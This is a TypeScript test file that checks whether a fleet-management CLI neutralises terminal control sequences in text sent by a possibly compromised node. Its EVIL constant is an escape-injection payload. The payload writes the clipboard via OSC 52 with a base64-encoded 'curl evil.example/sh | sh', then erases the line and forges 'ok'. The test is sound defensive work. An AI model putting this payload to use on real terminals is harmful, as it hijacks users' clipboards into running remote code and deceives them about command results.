import type { ServerResponse } from "node:http";
import { afterEach, describe, expect, it } from "vitest";
import { DeploymentEvent, DeploymentView, type TargetView } from "../../protocol/roost-api.ts";
import { countTargets } from "../../protocol/roost-counts.ts";
import type { ProcessActionResponse } from "../../protocol/processes.ts";
import { aggregate, apiError, directiveView, nodeView, openEvents, sendJson, startFakeHub, type FakeHub, type Recorded, type Route } from "./cli-fake-hub.ts";
import { runCli } from "./cli-run.ts";

// A compromised node's sentence: write the clipboard (OSC 52), go back to the line's start, erase it, forge "ok".
const EVIL = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\u0007\r\u001b[2Kok";
const SHOWN = "⟨U+001B⟩]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==⟨U+0007⟩⟨U+000D⟩⟨U+001B⟩[2Kok";
/** What a terminal acts on: C0 controls but tab and newline, DEL, C1. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let hub: FakeHub | undefined;
afterEach(async () => {
  await hub?.close();
  hub = undefined;
});

async function withHub(routes: Record<string, Route>) {
  hub = await startFakeHub(routes);
  return (...argv: string[]) => runCli(["--hub", hub!.url, "--api-key", "ck_node_text_0123456789", ...argv]);
}

/** The node's text is on the terminal, visible and inert. */
function expectShown(text: string): void {
  expect(text).toContain(SHOWN);
  expect(text).not.toMatch(RAW_CONTROL);
}

describe("node-written sentences on the CLI user's terminal", () => {
  it("cortex exec: a directive's error is shown with its controls made visible", async () => {
    const cortex = await withHub({
      "POST /api/sites/default/nodes/build-01/directives": (_req, res) => {
        const sse = openEvents(res);
        sse.send({ event: "result", directive: directiveView({ status: "failed", exitCode: null, output: "", errorCode: "exec_failed", error: EVIL }) });
        sse.end();
      },
    });
    const r = await cortex("exec", "build-01", "--", "true");
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`error: build-01: failed (exec_failed): ${SHOWN}\n`);
  });

  it("cortex exec --all: every machine's failure in the summary is shown with its controls made visible, the output stays raw", async () => {
    const cortex = await withHub({
      "GET /api/sites/default/nodes": (_req, res) => sendJson(res, 200, { nodes: [nodeView({ id: "build-01", name: "build-01" }), nodeView({ id: "evil-01", name: "evil-01" })] }),
      "POST /api/sites/default/fanouts": (_req, res) => {
        const sse = openEvents(res, { "X-Cortex-Fanout": "f-1" });
        sse.send({ event: "chunk", directiveId: "d-b", nodeId: "evil-01", seq: 0, chunk: "\u001b[1mbold\u001b[0m\n" });
        sse.send({ event: "result", directive: directiveView({ id: "d-a", nodeId: "build-01" }) });
        sse.send({ event: "result", directive: directiveView({ id: "d-b", nodeId: "evil-01", status: "failed", exitCode: null, errorCode: "exec_failed", error: EVIL }) });
        sse.send({ event: "aggregate", aggregate: aggregate({ total: 2, succeeded: 1, failed: 1 }) });
        sse.end();
      },
    });
    const r = await cortex("exec", "--all", "--", "make");
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("\u001b[1mbold\u001b[0m");
    expect(r.stderr).toBe(`2 nodes: 1 succeeded, 1 failed\n  evil-01: failed (exec_failed): ${SHOWN}\n`);
  });

  it("cortex run status: a run's reason, from the hub's record or from the node, is shown with its controls made visible", async () => {
    const ended = { state: "failed", exitCode: 3, reason: EVIL, outputTail: "", startedAt: 1_000, endedAt: 2_000, reportedAt: 3_000 };
    const cortex = await withHub({
      "GET /api/sites/default/nodes/build-01/runs/run-ended": (_req, res) =>
        sendJson(res, 200, { runId: "run-ended", nodeId: "build-01", directiveId: "d-1", launchedBy: null, launchedAt: null, ended }),
      "GET /api/sites/default/nodes/build-01/runs/run-live": (_req, res) =>
        sendJson(res, 200, { runId: "run-live", nodeId: "build-01", directiveId: "d-1", launchedBy: null, launchedAt: null, ended: null }),
      "POST /api/sites/default/nodes/build-01/directives": (_req, res) =>
        sendJson(res, 200, directiveView({ action: "run.status", output: "", data: { kind: "run_status", runId: "run-live", state: "stalled", exitCode: null, reason: EVIL } })),
    });
    const fromHub = await cortex("run", "status", "build-01", "run-ended");
    expect(fromHub.stdout).toBe(`run run-ended: failed, exit 3 (${SHOWN})\n`);
    const fromNode = await cortex("run", "status", "build-01", "run-live");
    expect(fromNode.stdout).toBe(`run run-live: stalled (${SHOWN})\n`);
  });

  it("cortex roost deploy: a machine's error and the deployment's reason are shown with their controls made visible", async () => {
    const id = "r-00000000-0000-4000-8000-000000000001";
    const target = (status: TargetView["status"], error: string | null = null): TargetView =>
      ({ nodeId: "evil-01", wave: "canary", status, directiveId: null, progress: null, error, startedAt: null, endedAt: null });
    const deployment = (state: DeploymentView["state"], targets: TargetView[], reason: string | null) =>
      DeploymentView.parse({
        id, kind: "deploy", roost: "web", version: 3, path: "/srv/web", canaryPercent: 50, promoteAtPercent: 90, abortAbovePercent: 25,
        concurrency: 50, keep: 3, after: null, catchUp: false, state, reason, requestedBy: "admin key", createdAt: 1, updatedAt: 1,
        counts: countTargets(targets), targets,
      });
    const events: DeploymentEvent[] = [
      { event: "snapshot", deployment: deployment("canary", [target("running")], null) },
      { event: "target", deploymentId: id, target: target("failed", EVIL) },
      { event: "end", deployment: deployment("aborted", [target("failed", EVIL)], EVIL) },
    ];
    const cortex = await withHub({
      "POST /api/sites/default/roosts/web/deployments": (_req: Recorded, res: ServerResponse) => {
        res.writeHead(200, { "content-type": "text/event-stream; charset=utf-8", "x-cortex-deployment": id });
        for (const e of events) res.write(`data: ${JSON.stringify(DeploymentEvent.parse(e))}\n\n`);
        res.end();
      },
    });
    const r = await cortex("roost", "deploy", "web@3", "--path", "/srv/web", "--to", "all");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`evil-01: failed: ${SHOWN}\n`);
    expect(r.stdout).toContain(`(${SHOWN})\n`);
    expectShown(r.stderr);
    expectShown(r.stdout);
  });

  it("cortex process: the agent's answer and a hub error relaying it are shown with their controls made visible", async () => {
    const base = "/api/sites/default/nodes/web-1/processes/api";
    const answer = (ok: boolean): ProcessActionResponse => ({ name: "api", operation: "start", ok, message: EVIL, directiveId: "d-1", status: null });
    const cortex = await withHub({
      [`POST ${base}/start`]: (_req, res) => sendJson(res, 200, answer(false)),
      [`POST ${base}/restart`]: (_req, res) => sendJson(res, 200, answer(true)),
      [`POST ${base}/stop`]: (_req, res) => apiError(res, 502, "exec_failed", EVIL),
    });
    const start = await cortex("process", "start", "web-1", "api");
    expect(start).toMatchObject({ code: 1, stderr: `error: api: ${SHOWN}\n` });
    const restart = await cortex("process", "restart", "web-1", "api");
    expect(restart).toMatchObject({ code: 0, stdout: `${SHOWN}\n` });
    const stop = await cortex("process", "stop", "web-1", "api");
    expect(stop.code).toBe(1);
    expectShown(stop.stderr);
  });
});
